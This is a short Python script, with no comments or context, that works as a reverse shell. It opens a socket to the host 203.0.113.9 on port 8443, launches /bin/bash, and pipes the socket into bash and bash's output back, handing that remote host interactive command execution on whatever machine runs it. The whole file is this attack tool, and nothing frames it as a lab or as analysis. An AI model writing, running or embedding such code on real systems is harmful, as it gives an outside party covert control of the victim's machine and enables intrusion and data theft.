import socket
import subprocess
import threading


def pump(source, sink):
    while True:
        data = source()
        if not data:
            return
        sink(data)


def main(host="203.0.113.9", port=8443):
    conn = socket.create_connection((host, port))
    shell = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    threading.Thread(target=pump, args=(lambda: conn.recv(1024), shell.stdin.write), daemon=True).start()
    pump(lambda: shell.stdout.read(1), conn.sendall)


if __name__ == "__main__":
    main()
